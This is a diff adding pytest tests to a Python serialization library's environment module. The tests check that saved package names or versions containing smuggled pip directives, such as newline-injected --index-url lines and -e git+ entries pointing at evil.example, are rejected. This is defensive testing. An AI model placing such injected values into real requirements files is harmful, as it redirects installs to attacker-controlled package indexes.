@@ -21,6 +21,7 @@ from sklearn.preprocessing import FunctionTransformer, StandardScaler
 
 import satchel
 from satchel import environment
+from satchel.errors import FormatError
 from satchel.format import container
 from tests.custom import Doubler
 from tests.hostile_tools import forge_environment, forge_sklearn_version
@@ -112,6 +113,36 @@ def test_distribution_of_a_referenced_module_is_recorded(func: Any, module: str,
     [record] = info.metadata.code
     assert (record["module"], record["distribution"], record["version"]) == (
         module, distribution, _installed(distribution))
+
+
+@pytest.mark.parametrize(("saved", "found"), [
+    ({"packages": {"numpy": "2.0\n--index-url http://evil.example/simple"}},
+     "'numpy': '2.0\\n--index-url http://evil.example/simple'"),
+    ({"packages": {"-e git+https://evil.example/x": "1.0"}},
+     "'-e git+https://evil.example/x': '1.0'"),
+    ({"packages": {"numpy": ""}}, "'numpy': ''"),
+    ({"python": "3.11\n--extra-index-url http://evil.example", "packages": {}},
+     "python '3.11\\n--extra-index-url http://evil.example'"),
+])
+def test_requirements_refuse_what_is_no_pin(saved: dict[str, Any], found: str) -> None:
+    """A package name or version that is not one, or a Python version or platform of more than
+    one line, is a FormatError: each was written as it was, so a line break added requirement
+    lines of the file's own (an --index-url) to what pip would install."""
+    with pytest.raises(FormatError) as caught:
+        environment.requirements(saved)
+    assert str(caught.value) == (
+        f"the saved environment is not a set of pinned requirements: {found}; expected package"
+        " names and versions (and a Python version and platform of one line). The file was"
+        " altered after it was saved; ask its author for the versions instead")
+
+
+def test_requirements_keep_every_form_of_version() -> None:
+    """Versions with local, pre, post and dev parts and an epoch are pinned as they are."""
+    versions = ["2.1.0+cu118", "1.0rc1", "1.0.post1.dev2", "1!2.0", "0.9b0"]
+    saved = {"python": "3.12.1", "platform": "Linux-x86_64",
+             "packages": {f"pkg{i}": v for i, v in enumerate(versions)}}
+    assert environment.requirements(saved).splitlines()[1:] == [
+        f"pkg{i}=={v}" for i, v in enumerate(versions)]
 
 
 def test_requirements_pin_every_saved_package(plain: bytes) -> None:
